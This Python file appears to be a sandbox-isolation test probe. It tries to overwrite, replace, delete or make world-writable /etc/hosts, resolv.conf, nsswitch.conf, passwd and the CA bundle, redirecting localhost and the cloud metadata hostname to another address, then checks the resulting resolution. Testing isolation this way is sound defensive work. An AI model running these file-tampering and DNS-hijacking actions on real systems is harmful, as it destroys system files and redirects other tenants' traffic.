# Changes name resolution for other sandboxes (an attack that worked where a read-only remount was not recursive).
import os
import socket

from attempt import attempts

FILES = ["hosts", "resolv.conf", "nsswitch.conf", "passwd", "ssl/certs/ca-certificates.crt"]


def write(path):
    with open(path, "w") as file:
        file.write("203.0.113.66 localhost metadata.google.internal")


def main(event, context):
    acts = {}
    for name in FILES:
        path = "/etc/" + name
        acts["write " + path] = lambda path=path: write(path)
        acts["replace " + path] = lambda path=path: os.rename("/tmp", path)
        acts["remove " + path] = lambda path=path: os.unlink(path)
        acts["open up " + path] = lambda path=path: os.chmod(path, 0o666)
    acts["resolved"] = lambda: socket.gethostbyname("localhost")
    return attempts(acts)


def resolve(event, context):
    return {
        "localhost": socket.gethostbyname("localhost"),
        "metadata": socket.gethostbyname("metadata.google.internal"),
    }
